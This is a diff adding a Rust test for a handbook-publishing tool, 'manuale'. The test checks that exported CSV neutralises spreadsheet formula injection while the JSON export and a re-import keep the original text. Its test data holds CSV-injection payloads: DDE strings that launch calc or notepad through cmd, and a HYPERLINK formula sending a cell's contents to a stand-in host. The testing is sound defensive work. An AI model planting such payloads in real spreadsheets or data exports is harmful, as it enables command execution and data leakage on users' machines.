@@ -433,7 +433,12 @@ fn the_workbook_opens_with_calamine_to_the_csv_rows() {
         .unwrap();
     let csv_rows: Vec<Vec<String>> = r
         .records()
-        .map(|x| x.unwrap().iter().map(String::from).collect())
+        .map(|x| {
+            x.unwrap()
+                .iter()
+                .map(|c| manuale::dictionary::csv_original(c).to_string())
+                .collect()
+        })
         .collect();
     assert!(csv_rows.len() > 300);
     assert_eq!(sheet.len(), csv_rows.len());
@@ -564,4 +569,87 @@ fn every_page_states_the_licence() {
         }
     }
     assert!(pages > 300);
+}
+
+/// Cells a spreadsheet would run as formulas (OWASP «CSV injection»): the
+/// CSV neutralises them with an apostrophe, the JSON keeps them as they are,
+/// and the CSV imported again gives the original text.
+#[test]
+fn formula_cells_never_run_when_the_csv_is_opened() {
+    let b = Book::new();
+    let attacks = [
+        "=HYPERLINK(\"https://example.invalid/?\"&A1,\"Clicca qui\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C notepad'!'A1'",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "=1+1",
+        "'=già con l'apostrofo",
+    ];
+    let mut sheet = std::fs::read_to_string(b.join(SHEET)).unwrap();
+    if !sheet.ends_with('\n') {
+        sheet.push('\n');
+    }
+    for (i, a) in attacks.iter().enumerate() {
+        sheet.push_str(&format!(
+            "F1.1.1.{} Processo {i}\t{a}\tistanza\t{a}\t1. uno 2. due\t{a}\n",
+            90 + i
+        ));
+    }
+    std::fs::write(b.join(SHEET), sheet).unwrap();
+    assert!(b.run(&["import"]).status.success());
+    let out = b.run(&["build"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let mut r = csv::Reader::from_path(b.join("book/dati/processi.csv")).unwrap();
+    let mut seen = 0;
+    for rec in r.records() {
+        let rec = rec.unwrap();
+        for cell in rec.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell that a spreadsheet runs: {cell}"
+            );
+            if attacks.iter().any(|a| cell == format!("'{a}")) {
+                seen += 1;
+            }
+        }
+    }
+    assert_eq!(
+        seen,
+        attacks.len() * 3,
+        "each attack in name, output, responsible"
+    );
+    // The JSON keeps the text as it is.
+    let json = b.read("book/dati/processi.json");
+    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
+    let f = v["processes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|p| p["code"] == "F1.1.1.90")
+        .unwrap();
+    assert_eq!(f["activities"][0]["name"], attacks[0]);
+    // The data package and the page of the open data say how to undo it.
+    assert!(b
+        .read("book/dati/datapackage.json")
+        .contains("si toglie quel primo apostrofo"));
+    assert!(text(&b.read("book/dati-aperti.html")).contains("si toglie quel primo apostrofo"));
+    // manuale reads its own CSV back to the original text.
+    let c = tempfile::tempdir().unwrap();
+    std::fs::copy(b.join("book/dati/processi.csv"), c.path().join("p.csv")).unwrap();
+    let out = b.run(&[
+        "check",
+        c.path().join("p.csv").to_str().unwrap(),
+        "--format",
+        "json",
+    ]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let out = b.run(&["import", c.path().join("p.csv").to_str().unwrap()]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let page = walkdir::WalkDir::new(b.join("content"))
+        .into_iter()
+        .filter_map(Result::ok)
+        .find(|e| e.file_name() == "F1.1.1.95.md")
+        .unwrap();
+    let text = std::fs::read_to_string(page.path()).unwrap();
+    assert!(text.contains("name = \"'=già con l'apostrofo\""), "{text}");
 }
